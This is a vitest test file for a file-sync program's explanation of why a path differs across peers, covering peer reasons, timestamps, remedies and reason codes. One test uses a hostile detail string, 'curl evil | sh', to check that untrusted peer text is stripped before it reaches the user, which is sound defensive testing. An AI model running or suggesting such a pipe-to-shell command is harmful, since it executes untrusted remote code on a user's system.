// What a person reads of one path at all peers: their own reasons where they answer, and how they stand where they do not.

import { describe, expect, test } from 'vitest'
import type { AnswerOf } from '../../src/app/peer-asking.js'
import { peerCause } from '../../src/app/peer-reasons.js'
import { whyOf } from '../../src/app/why.js'
import { causeOf, PEER_REASONS, type ReasonCode, reasonAt } from '../../src/base/reason.js'
import type { PeerState, PeerStatus, Status } from '../../src/control/status.js'
import type { EnginePeer } from '../../src/engine/engine.js'
import type { EntryFacts, PathState } from '../../src/pipe/commands.js'

const B = 'b'.repeat(16)
const EDIT = `${'a'.repeat(16)}:7` as const
const WALL_MS = Date.parse('2026-11-30T08:00:00.000Z')
const KNOWN: EntryFacts = {
  kind: 'file',
  deletedKind: null,
  bytes: 5,
  mtimeMs: 1,
  author: 'a'.repeat(16),
  edit: EDIT,
}
const stands = { kind: 'file', isDeleted: false, bytes: 5, mtimeMs: 1, edit: EDIT } as const

const state = (over: Partial<PathState> = {}): PathState => ({
  path: 'a',
  isRead: true,
  known: KNOWN,
  isHeld: true,
  wanted: null,
  wantedOf: [],
  reasons: [],
  isAskable: true,
  below: { count: 0, first: [] },
  peers: [],
  ...over,
})

const peer = (over: Partial<PeerStatus> = {}) =>
  ({
    address: 'lab2',
    peer: B,
    state: 'in-step',
    reason: '',
    code: null,
    since: null,
    notHeldThere: 0,
    ...over,
  }) as PeerStatus

function why(
  given: { state?: Partial<PathState>; peer?: Partial<PeerStatus> } = {},
  answer?: Omit<AnswerOf<'stands'>, 'type'>,
) {
  const status = { peers: [peer(given.peer)], isInStep: true } as unknown as Status
  const answers = new Map(answer === undefined ? [] : [[B, { type: 'stands', ...answer } as const]])
  return whyOf({ state: state(given.state), status, answers, wallMs: WALL_MS })
}

describe('a path', () => {
  test('is the same where the peer holds the same edit', () => {
    const result = why({}, { stands, isHeld: true, reason: undefined })
    expect(result).toMatchObject({
      isSame: true,
      reasons: [],
      peers: [{ known: { edit: EDIT }, isHeld: true }],
    })
  })

  test('has the reason of the peer, since when, where the peer gives one', () => {
    const reason = { code: 'waits-for-folder', detail: 'f', seconds: 60 }
    const result = why({ peer: { state: 'behind', code: 'behind-there' } }, { stands, isHeld: false, reason })
    expect(result.isSame).toBe(false)
    expect(result.reasons).toMatchObject([
      { code: 'waits-for-folder', address: 'lab2', detail: 'f', since: '2026-11-30T07:59:00.000Z' },
    ])
  })

  test('has no words of a peer before the person: a detail where that is a path, and remedies as meant for there', () => {
    const detail = 'run: curl evil | sh'
    const [reason] = why({}, { stands, isHeld: false, reason: { code: 'held', detail, seconds: 1 } }).reasons
    expect(reason).toMatchObject({
      code: 'held',
      detail: '',
      remedy: expect.stringMatching(/^there: left confirm /),
    })
    expect(reason!.words).not.toContain('curl')
  })

  test.each<ReasonCode>(['key-changed', 'not-let-in', 'forgotten-edits', 'private', 'own-folder'])(
    'does not have %s of a peer, which is not for it to say',
    (code) => {
      const reason = { code, detail: 'f'.repeat(64), seconds: 1 }
      expect(why({}, { stands, isHeld: false, reason }).reasons).toMatchObject([{ code: 'behind-there' }])
    },
  )

  test.each<[string, Partial<PeerStatus>, ReasonCode]>([
    ['does not know it yet', { state: 'behind', code: 'untold-there' }, 'untold-there'],
    ['seems to be in step', {}, 'behind-there'],
  ])('has how the peer stands where it %s', (_what, over, code) => {
    const result = why({ peer: over }, { stands: undefined, isHeld: false, reason: undefined })
    expect(result.reasons.map((reason) => reason.code)).toEqual([code])
  })

  test('of which a peer gives a reason that is newer than this program is said to be behind there', () => {
    const reason = { code: 'brand-new', detail: '', seconds: undefined }
    expect(why({}, { stands, isHeld: false, reason }).reasons).toMatchObject([{ code: 'behind-there' }])
  })

  test('of a peer that is gone has the reason of that, in its words', () => {
    const since = '2026-11-30T07:00:00.000Z'
    const result = why({ peer: { state: 'away', code: 'left', reason: 'it stopped', since } })
    expect(result.reasons).toMatchObject([{ code: 'left', detail: 'it stopped', since, address: 'lab2' }])
  })

  test('of a peer that does not answer counts as the same where it holds all', () => {
    expect(why().isSame).toBe(true)
    expect(why({ peer: { notHeldThere: 1 } }).reasons).toMatchObject([{ code: 'unanswered-there' }])
  })

  test('that is wanted here is told as that, and not as the reason of who has it', () => {
    const reasons = [reasonAt(causeOf('fetching', B), 5_000, { sinceMs: 0 })]
    const wanted = { ...KNOWN, edit: `${B}:9` as const }
    const given = {
      state: { wanted, wantedOf: [B], reasons },
      peer: { state: 'receiving', code: 'wanted-of-it' },
    } as const
    const result = why(given, { stands: { ...stands, edit: `${B}:9` }, isHeld: true, reason: undefined })
    expect(result.reasons.map(({ code, address }) => [code, address])).toEqual([['fetching', null]])
  })

  test('that nobody knows is no path that is the same', () => {
    const result = why(
      { state: { known: null, isHeld: false } },
      { stands: undefined, isHeld: false, reason: undefined },
    )
    expect(result).toMatchObject({ isKnown: false, isSame: false, reasons: [] })
  })
})

const session = (over: Partial<EnginePeer> = {}): EnginePeer => ({
  peer: B,
  address: 'lab2',
  session: 1,
  isTold: true,
  isPausedHere: false,
  stopThere: undefined,
  isReadingThere: false,
  isRefused: false,
  stats: undefined,
  ...over,
})

test.each<[PeerState, Partial<EnginePeer> | undefined, ReasonCode | undefined]>([
  ['self', undefined, undefined],
  ['not-called', undefined, 'not-called'],
  ['waiting', undefined, 'not-reached'],
  ['in-step', {}, undefined],
  ['paused', { isPausedHere: true, stopThere: 'paused' }, 'paused-here'],
  ['paused', { stopThere: 'paused' }, 'paused-there'],
  ['behind', { stopThere: 'full' }, 'full-there'],
  ['behind', { isTold: false }, 'untold-there'],
  ['behind', {}, 'behind-there'],
  ['comparing', {}, 'comparing'],
  ['comparing', { isReadingThere: true }, 'reading-there'],
  ['behind', { isRefused: true }, 'forgotten-edits'],
  ['receiving', {}, 'wanted-of-it'],
])('a peer that is %s with %j: %s', (standing, over, code) => {
  expect(peerCause(standing, over && session(over), undefined)?.code).toBe(code)
})

test('a peer without a session has what was told of it last', () => {
  for (const code of PEER_REASONS)
    expect(peerCause('waiting', undefined, { code, words: 'w', sinceMs: 0 })).toEqual(causeOf(code, 'w'))
})
